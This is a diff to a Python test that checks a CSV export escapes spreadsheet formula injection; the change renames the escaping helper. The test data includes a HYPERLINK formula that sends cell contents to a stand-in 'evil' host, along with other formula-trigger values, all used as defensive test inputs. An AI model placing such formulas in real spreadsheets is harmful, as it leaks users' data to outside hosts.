@@ -180,7 +180,7 @@ def test_a_payee_name_that_is_a_spreadsheet_formula_is_exported_as_text():
                        '=HYPERLINK("http://evil/?"&A1,"x")', "1.00", "GBP", "output")
     [_, line] = list(csv.reader(io.StringIO(usage.to_csv([row]))))
     assert line[9] == "'" + '=HYPERLINK("http://evil/?"&A1,"x")'
-    assert [usage._cell(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "plain")] == ["'+1", "'-1", "'@SUM(A1)",
+    assert [usage.spreadsheet_safe(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "plain")] == ["'+1", "'-1", "'@SUM(A1)",
                                                                                  "'\tx", "plain"]
 
 
